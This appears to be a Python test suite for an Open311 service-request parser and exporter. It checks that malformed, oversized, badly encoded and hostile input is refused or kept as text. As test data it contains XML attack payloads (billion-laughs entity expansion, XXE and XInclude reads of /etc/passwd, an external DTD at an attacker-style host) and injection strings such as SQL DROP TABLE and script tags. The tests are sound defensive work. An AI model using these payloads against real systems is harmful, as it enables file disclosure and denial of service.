"""Open311 codec against bad and hostile input: every refusal is an Open311Error with a
code and a position, a bad field costs only that field (or that item), and text that looks
like code stays text."""

from __future__ import annotations

import contextlib
import json
import time
from datetime import datetime, timedelta, timezone
from xml.etree.ElementTree import fromstring

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core.open311 import (
    Open311Error,
    Open311Request,
    OrderRow,
    encode_requests,
    parse_requests,
    parse_services,
    requests_document,
)

CN = timezone(timedelta(hours=8))
ONE = (
    '[{"service_request_id":"A1","status":"open","description":"%s",'
    '"requested_datetime":"2026-12-04T09:30:00+08:00","lat":23.1,"long":113.2}]'
)
ONE_XML = (
    '<?xml version="1.0" encoding="%s"?>\n<service_requests><request>'
    "<service_request_id>A1</service_request_id><description>%s</description>"
    "</request></service_requests>"
)


def refused(data: bytes | str, code: str, **kw: object) -> Open311Error:
    with pytest.raises(Open311Error) as caught:
        parse_requests(data, **kw)  # type: ignore[arg-type]
    assert caught.value.code == code, caught.value
    return caught.value


# --- XML attacks ------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<service_requests><request><service_request_id>1</service_request_id>
<description>&lol9;</description></request></service_requests>
"""

EXTERNAL_ENTITY = b"""<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE service_requests [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<service_requests><request><service_request_id>1</service_request_id>
<description>&xxe;</description></request></service_requests>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE service_requests SYSTEM "http://attacker.invalid/evil.dtd">
<service_requests><request><service_request_id>1</service_request_id></request>
</service_requests>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % ext SYSTEM "file:///etc/hostname"> %ext;]>
<service_requests/>
"""


@pytest.mark.parametrize(
    "doc",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY],
    ids=["billion_laughs", "external_entity", "external_dtd", "parameter_entity"],
)
def test_doctype_is_refused_fast(doc: bytes) -> None:
    start = time.perf_counter()
    error = refused(doc, "xml_forbidden")
    assert error.params == {"construct": "dtd"}
    assert time.perf_counter() - start < 1.0
    assert "root:" not in str(error)  # nothing of /etc/passwd leaked into the message


def test_undeclared_entity_is_malformed_not_expanded() -> None:
    doc = ONE_XML % ("utf-8", "&xxe;")
    error = refused(doc, "malformed")
    assert error.params["line"] == 2


def test_xinclude_is_not_followed() -> None:
    doc = ONE_XML % (
        "utf-8",
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>',
    )
    (item,) = parse_requests(doc).items
    assert item.description is None  # an element, not text: reported, nothing read
    assert [p.code for p in parse_requests(doc).problems] == ["bad_type"]


def test_predefined_entities_and_cdata_are_text() -> None:
    doc = ONE_XML % ("utf-8", "a &lt;b&gt; &amp; <![CDATA[<script>x</script>]]>")
    (item,) = parse_requests(doc).items
    assert item.description == "a <b> & <script>x</script>"


# --- size, truncation, malformed --------------------------------------------------------


def test_oversized_is_refused_before_parsing() -> None:
    # Unparseable on purpose: the size check must answer first.
    error = refused(b"[" * 101, "too_large", max_bytes=100)
    assert error.params == {"size": 101, "limit": 100}
    refused("[" * 101, "too_large", max_bytes=100)
    refused("中" * 40, "too_large", max_bytes=100)  # 120 bytes in UTF-8
    assert parse_requests(ONE % "ok", max_bytes=len(ONE % "ok")).items


def test_truncated_json_gives_a_position() -> None:
    doc = json.dumps([{"service_request_id": "A1", "description": "x" * 50}], indent=1)
    for cut in (len(doc) - 1, len(doc) // 2, 30):
        error = refused(doc[:cut], "truncated")
        assert error.params["line"] >= 1 and error.params["column"] >= 1


def test_truncated_xml_gives_a_position() -> None:
    doc = (ONE_XML % ("utf-8", "hello")).encode()
    for cut in (len(doc) - 3, len(doc) - 20, 60):
        error = refused(doc[:cut], "truncated")
        assert error.params["line"] == 2


def test_truncated_multibyte_character() -> None:
    doc = (ONE % "噪音").encode()
    cut = doc.index("音".encode()) + 1
    refused(doc[:cut], "bad_encoding")


def test_malformed_json_position() -> None:
    error = refused('[\n  {"service_request_id": "A1",}\n]', "malformed")
    assert (error.params["line"], error.params["column"]) == (2, 31)  # the "}" after the comma


def test_malformed_json_position_after_leading_zero_repair() -> None:
    # The repair inserts quotes; the position must still point into the original text.
    error = refused('[{"service_code":001, "x": }]', "malformed")
    assert error.params["offset"] == '[{"service_code":001, "x": }]'.index("}")


def test_empty_and_unknown() -> None:
    refused(b"", "empty")
    refused(b"  \n\t ", "empty")
    refused(b"\xef\xbb\xbf", "empty")
    refused(b"hello", "unknown_format")
    refused(b"<html><body>502 Bad Gateway</body></html>", "not_georeport")
    refused(b'"a string"', "unknown_format")
    refused(b"42", "unknown_format")


def test_deep_nesting_is_refused() -> None:
    refused("[" * 100_000 + "]" * 100_000, "too_deep")
    deep = "<x>" * 200 + "</x>" * 200
    refused((ONE_XML % ("utf-8", "")).replace("<description></description>", deep), "too_deep")


# --- encodings --------------------------------------------------------------------------


def test_gbk_bytes_declared_utf8_are_refused_with_the_offset() -> None:
    text = ONE % "楼下噪音"
    data = text.encode("gbk")
    error = refused(data, "bad_encoding")
    assert error.params["encoding"] == "utf-8"
    # GBK 楼 is C2 A5, which happens to be valid UTF-8 (¥): the error is at 下.
    start = text.index("楼")
    assert error.params["offset"] == start + 2
    assert data[start : start + 2] == "楼".encode("gbk")
    xml = (ONE_XML % ("utf-8", "楼下噪音")).encode("gbk")
    error = refused(xml, "bad_encoding")
    assert error.params["line"] == 2


def test_gbk_is_read_when_declared() -> None:
    (item,) = parse_requests((ONE % "楼下噪音").encode("gbk"), encoding="gbk").items
    assert item.description == "楼下噪音"
    (item,) = parse_requests((ONE_XML % ("GBK", "楼下噪音")).encode("gbk")).items
    assert item.description == "楼下噪音"
    (item,) = parse_requests((ONE_XML % ("GB18030", "𠀀噪音")).encode("gb18030")).items
    assert item.description == "𠀀噪音"


@pytest.mark.parametrize("codec", ["utf-16", "utf-32", "utf-8-sig"])
def test_bom_encodings_are_read(codec: str) -> None:
    (item,) = parse_requests((ONE % "噪音").encode(codec)).items
    assert item.description == "噪音"
    # The BOM wins over a declaration that says otherwise.
    (item,) = parse_requests((ONE_XML % ("utf-8", "噪音")).encode(codec)).items
    assert item.description == "噪音"


@pytest.mark.parametrize("codec", ["utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be"])
def test_utf16_and_utf32_without_bom(codec: str) -> None:
    (item,) = parse_requests((ONE % "噪音").encode(codec)).items
    assert item.description == "噪音"


def test_utf16_bom_in_front_of_utf8_is_refused() -> None:
    data = b"\xff\xfe" + (ONE % "噪音x").encode()
    if len(data) % 2:
        data += b" "
    error = refused(data, "bad_encoding")
    assert error.params["encoding"] == "utf-16"


def test_unknown_and_non_text_encodings() -> None:
    refused((ONE_XML % ("x-klingon", "a")).encode(), "unknown_encoding")
    refused((ONE_XML % ("rot13", "a")).encode(), "unknown_encoding")
    refused((ONE % "a").encode(), "unknown_encoding", encoding="zlib_codec")


def test_lone_surrogates() -> None:
    refused(ONE_XML % ("utf-8", "\ud800"), "bad_encoding")
    result = parse_requests(ONE % "a\\ud800b")
    assert result.items[0].description == "ab"
    assert [(p.code, p.field) for p in result.problems] == [
        ("invalid_chars_removed", "description")
    ]


# --- one bad field costs that field; one bad item costs that item -----------------------


def test_problems_name_index_id_and_field() -> None:
    items = [
        {"service_request_id": "ok", "lat": 23.1, "long": 113.2},
        {"service_request_id": "date", "requested_datetime": "2026-13-45T99:00:00+08:00"},
        {"service_request_id": "naive", "updated_datetime": "2026-12-04T09:30:00"},
        {"service_request_id": "north", "lat": 91.5, "long": 113.2},
        {"service_request_id": "half", "lat": 23.1},
        {"service_request_id": "nan", "lat": "NaN", "long": "x"},
        {"description": "no id"},
        "not an object",
        {"service_request_id": "js", "media_url": "javascript:alert(1)"},
        {"service_request_id": "status", "status": "Pending"},
        {"service_request_id": "ok", "notes": [{"datetime": "yesterday", "type": "activity"}]},
        {"service_request_id": {"nested": 1}},
        {"service_request_id": 7, "description": ["a", "b"], "zipcode": True},
    ]
    result = parse_requests(json.dumps(items))
    assert [r.service_request_id for r in result.items] == [
        "ok", "date", "naive", "north", "half", "nan", "js", "status", "ok", "7"
    ]  # fmt: skip
    got = [(p.index, p.item_id, p.field, p.code, p.severity) for p in result.problems]
    assert got == [
        (1, "date", "requested_datetime", "bad_datetime", "warning"),
        (2, "naive", "updated_datetime", "naive_datetime", "warning"),
        (3, "north", "lat", "bad_coordinate", "warning"),
        (3, "north", "lat", "incomplete_coordinates", "warning"),
        (4, "half", "long", "incomplete_coordinates", "warning"),
        (5, "nan", "lat", "bad_coordinate", "warning"),
        (5, "nan", "long", "bad_coordinate", "warning"),
        (6, None, "service_request_id", "missing_id", "error"),
        (7, None, None, "not_an_object", "error"),
        (8, "js", "media_url", "bad_url", "warning"),
        (9, "status", "status", "unknown_status", "warning"),
        (10, "ok", "service_request_id", "duplicate_id", "warning"),
        (10, "ok", "notes[0].datetime", "bad_datetime", "warning"),
        (11, None, "service_request_id", "bad_type", "warning"),
        (11, None, "service_request_id", "missing_id", "error"),
        (12, "7", "description", "bad_type", "warning"),
        (12, "7", "zipcode", "bad_type", "warning"),
    ]
    by_id = {r.service_request_id: r for r in result.items}
    assert (by_id["north"].lat, by_id["north"].long) == (None, None)
    assert by_id["status"].status == "pending"
    assert by_id["date"].requested_datetime is None
    assert len(result.errors) == 3


def test_huge_numbers() -> None:
    big_id, big_lat, zeros = "1" * 5000, "4" * 400, "0" * 30
    doc = f'[{{"service_request_id":{big_id},"lat":{big_lat},"long":1e999,"zipcode":{zeros}}}]'
    result = parse_requests(doc)
    (item,) = result.items
    assert item.service_request_id == "1" * 5000  # an id's digits, never int()'d
    assert (item.lat, item.long) == (None, None)
    assert item.zipcode == "0" * 30
    assert [(p.field, p.code) for p in result.problems if p.index is not None] == [
        ("lat", "bad_coordinate"),
        ("long", "bad_coordinate"),
    ]


def test_assume_tz_completes_naive_datetimes() -> None:
    doc = json.dumps([{"service_request_id": "1", "requested_datetime": "2026-12-04T09:30:00"}])
    result = parse_requests(doc, assume_tz=CN)
    assert result.items[0].requested_datetime == datetime(2026, 12, 4, 9, 30, tzinfo=CN)
    assert [p.code for p in result.problems] == ["assumed_timezone"]


def test_leading_zero_repair_leaves_strings_and_valid_numbers_alone() -> None:
    doc = (
        '[{"service_request_id":"007","service_code":007,"lat":1e-05,"long":-0.5,'
        '"address":"Flat 007, \\"009\\" Road","zipcode":-012}]'
    )
    result = parse_requests(doc)
    (item,) = result.items
    assert (item.service_request_id, item.service_code, item.zipcode) == ("007", "007", "-012")
    assert (item.lat, item.long) == (1e-05, -0.5)
    assert item.address == 'Flat 007, "009" Road'
    assert [p.params["text"] for p in result.problems] == ["007", "-012"]


def test_services_missing_code_and_bad_flag() -> None:
    doc = json.dumps(
        [
            {"service_code": "A", "metadata": "maybe", "type": "psychic"},
            {"service_name": "no code"},
        ]
    )
    result = parse_services(doc)
    assert [s.service_code for s in result.items] == ["A"]
    assert [(p.index, p.field, p.code) for p in result.problems] == [
        (0, "type", "unknown_service_type"),
        (0, "metadata", "bad_boolean"),
        (1, "service_code", "missing_id"),
    ]


# --- injection strings stay text --------------------------------------------------------

HOSTILE = [
    "'); DROP TABLE orders;--",
    "<script>alert('x')</script>",
    "]]><!DOCTYPE x [<!ENTITY a 'b'>]>&a;",
    '"},{"service_request_id":"forged"',
    "&amp; &lt; \u2028 \u2029 </description><status>closed</status>",
]


@pytest.mark.parametrize("fmt", ["json", "xml"])
@pytest.mark.parametrize("text", HOSTILE)
def test_injection_text_round_trips_as_text(fmt: str, text: str) -> None:
    order = OrderRow(
        order_id=1,
        state="registered",
        requested_at=datetime(2026, 12, 4, 9, 30, tzinfo=CN),
        description=text,
        address=text,
        notes=((datetime(2026, 12, 4, 9, 31, tzinfo=CN), "activity", text, text),),
    )
    doc = requests_document([order], fmt)  # type: ignore[arg-type]
    assert b"<script>" not in doc and b"</description><status>" not in doc
    result = parse_requests(doc)
    assert result.problems == ()
    (item,) = result.items
    assert item.service_request_id == "1" and item.status == "open"
    assert item.description == text and item.address == text
    assert item.notes[0].summary == text and item.status_notes == text


def test_json_export_escapes_html_characters() -> None:
    doc = encode_requests([Open311Request("1", description="<b>&</b>")], "json")
    assert b"\\u003cb\\u003e\\u0026\\u003c/b\\u003e" in doc
    assert json.loads(doc)[0]["description"] == "<b>&</b>"


def test_xml_export_replaces_characters_xml_cannot_carry() -> None:
    doc = encode_requests([Open311Request("1", description="a\x01b\x00c\ufffed")], "xml")
    assert fromstring(doc).findtext("request/description") == "a\ufffdb\ufffdc\ufffdd"


@pytest.mark.parametrize("fmt", ["json", "xml"])
def test_lone_surrogate_is_replaced_on_export(fmt: str) -> None:
    doc = encode_requests([Open311Request("1", description="a\ud800b")], fmt)  # type: ignore[arg-type]
    assert parse_requests(doc).items[0].description == "a\ufffdb"


def test_non_finite_coordinates_are_refused_on_export() -> None:
    for fmt in ("json", "xml"):
        with pytest.raises(Open311Error) as caught:
            encode_requests([Open311Request("1", lat=float("nan"), long=1.0)], fmt)  # type: ignore[arg-type]
        assert caught.value.code == "not_finite"


# --- properties -------------------------------------------------------------------------

_TEXT = st.text(
    st.characters(blacklist_categories=("Cc", "Cs"), blacklist_characters="\ufffe\uffff"),
    max_size=40,
)


@settings(max_examples=150, deadline=None)
@given(description=_TEXT, address=_TEXT, fmt=st.sampled_from(["json", "xml"]))
def test_any_text_round_trips(description: str, address: str, fmt: str) -> None:
    request = Open311Request("R-1", description=description, address=address)
    (again,) = parse_requests(encode_requests([request], fmt)).items  # type: ignore[arg-type]
    assert again.description == (description.strip() or None)
    assert again.address == (address.strip() or None)


@settings(max_examples=300, deadline=None)
@given(data=st.binary(max_size=300))
def test_random_bytes_never_escape_as_other_errors(data: bytes) -> None:
    with contextlib.suppress(Open311Error):
        parse_requests(data, max_bytes=200)


@settings(max_examples=200, deadline=None)
@given(cut=st.integers(min_value=0, max_value=400), flip=st.integers(0, 255))
def test_mangled_documents_never_escape_as_other_errors(cut: int, flip: int) -> None:
    doc = bytearray((ONE_XML % ("utf-8", "噪音")).encode() + (ONE % "x").encode())
    for data in (bytes(doc[:cut]), bytes(doc[:cut]) + bytes([flip]) + bytes(doc[cut + 1 :])):
        for fmt in ("json", "xml", None):
            with contextlib.suppress(Open311Error):
                parse_requests(data, fmt=fmt)  # type: ignore[arg-type]


_LEAF = st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=12)
_JSON_VALUE = st.recursive(
    _LEAF,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=6), inner),
    max_leaves=8,
)
_FIELDS = st.sampled_from(
    [
        "service_request_id",
        "status",
        "requested_datetime",
        "lat",
        "long",
        "media_url",
        "notes",
        "description",
        "zipcode",
        "extended_attributes",
        "x-odd key",
    ]
)


@settings(max_examples=100, deadline=None)
@given(items=st.lists(st.dictionaries(_FIELDS, _JSON_VALUE), max_size=3))
def test_any_json_shape_parses_and_exports_or_says_why(items: list[dict[str, object]]) -> None:
    result = parse_requests(json.dumps(items))
    assert len(result.items) + len(result.errors) == len(items)
    for fmt in ("json", "xml"):
        try:
            again = parse_requests(encode_requests(result.items, fmt))  # type: ignore[arg-type]
        except Open311Error as e:
            assert e.code == "not_finite"  # a NaN among the extras
            continue
        assert [r.service_request_id for r in again.items] == [
            r.service_request_id for r in result.items
        ]
